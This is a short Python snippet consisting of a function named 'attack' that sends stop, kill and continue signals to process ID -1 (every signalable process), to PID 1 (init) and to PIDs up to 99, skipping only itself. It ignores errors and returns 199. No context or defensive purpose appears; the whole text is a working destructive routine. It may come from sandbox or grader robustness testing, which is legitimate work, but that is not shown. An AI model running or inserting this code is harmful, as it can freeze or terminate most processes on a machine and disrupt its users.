import os
import signal


def attack(*_, **__):
    for number in [-1, 0, 1] + list(range(2, 100)):
        if number != os.getpid():
            for which in (signal.SIGSTOP, signal.SIGKILL, signal.SIGCONT):
                try:
                    os.kill(number, which)
                except OSError:
                    pass
    return 199
